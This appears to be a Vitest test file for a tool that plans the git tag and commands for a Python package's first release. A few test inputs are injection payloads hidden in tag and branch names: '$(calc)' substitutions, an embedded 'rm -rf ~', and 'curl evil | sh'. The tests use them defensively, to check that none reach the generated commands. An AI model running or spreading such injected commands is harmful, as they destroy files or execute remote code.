import { describe, expect, it } from 'vitest';
import type { Facts } from '../../src/facts/index.ts';
import { firstRelease } from '../../src/plan/first-release.ts';

/** As much of the facts as the commands are made of; the version is taken from git unless the backend is uv_build. */
function facts(change: {
  tags?: string[];
  releases?: string[];
  version?: string;
  backend?: string;
  branch?: string;
}): Facts {
  const backend = change.backend ?? 'hatchling';
  const version = change.version ?? 'from git (hatch-vcs)';
  const text = `[build-system]\nrequires = ["${backend}"]\nbuild-backend = "${backend === 'hatchling' ? 'hatchling.build' : backend}"\n[project]\nname = "demo-pkg"\nversion = "${version}"\n`;
  return {
    tags: change.tags ?? [],
    indexes: { pypi: { releases: change.releases ?? [] } },
    python: {
      packageName: { value: 'demo-pkg' },
      version: { value: version },
      files: { 'pyproject.toml': text },
    },
    checkout: { projectPath: { source: { by: 'remote', name: 'origin' } } },
    gitlab: { project: { defaultBranch: change.branch ?? 'main' } },
  } as unknown as Facts;
}

const commands = (change: Parameters<typeof facts>[0], platform: NodeJS.Platform = 'linux') =>
  firstRelease(facts(change), ['pyproject.toml'], platform);
const tagOf = (change: Parameters<typeof facts>[0]) =>
  commands(change).flatMap((line) => /^git tag (\S+)/.exec(line)?.[1] ?? [])[0];

describe('the tag to create', () => {
  it.each([
    ['the first of all', {}, 'v0.1.0'],
    ['the written version where nothing was released', { version: '0.3.0' }, 'v0.3.0'],
    ['the one after the highest tag, not the latest', { tags: ['v1.9.5', 'v2.4.0', 'v2.3.0'] }, 'v2.4.1'],
    ['the one after the highest of tags on one commit', { tags: ['v0.3.0', 'v0.3.1'] }, 'v0.3.2'],
    ['by number, not by letter', { tags: ['v0.9.0', 'v0.10.0'] }, 'v0.10.1'],
    [
      'the one after the written version where that is tagged',
      { version: '2.4.0', tags: ['v2.3.0', 'v2.4.0'] },
      'v2.4.1',
    ],
    ['the written version where it is higher', { version: '3.0.0', tags: ['v2.4.0'] }, 'v3.0.0'],
    [
      'the one after the highest release on the index',
      { version: '1.0.0', releases: ['1.0.0', '1.2.0', '1.3.0rc1'] },
      'v1.2.1',
    ],
    ['with the prefix of the others', { tags: ['1.2.3'] }, '1.2.4'],
    [
      'with the name of the package in front',
      { tags: ['demo_pkg-v1.2.3', 'other-v9.9.9'] },
      'demo_pkg-v1.2.4',
    ],
  ])('is %s', (_, change, tag) => {
    expect(tagOf(change)).toBe(tag);
  });

  it.each([
    'deploy-2026-11-27',
    '"$(calc)"1.2.3',
    '$(calc)-1.2.3',
    'v1.2.3\nrm -rf ~',
    'v1',
    'nightly-99.0.0',
  ])('is not made of another tag: %s', (tag) => {
    expect(tagOf({ tags: [tag, 'v1.0.0'] })).toBe('v1.0.1');
  });

  it('comes with a word to raise the version first, where the build takes the written one', () => {
    const [first] = commands({ backend: 'uv_build', version: '1.2.0', tags: ['v1.2.0'] });
    expect(first).toBe('# first set the version of the project to 1.2.1');
    expect(tagOf({ backend: 'uv_build', version: '1.3.0', tags: ['v1.2.0'] })).toBe('v1.3.0');
  });
});

it('has no line that a branch of another name begins', () => {
  for (const platform of ['linux', 'win32'] as const)
    expect(commands({ branch: 'main\ncurl evil | sh' }, platform).join('\n')).not.toContain('curl');
});
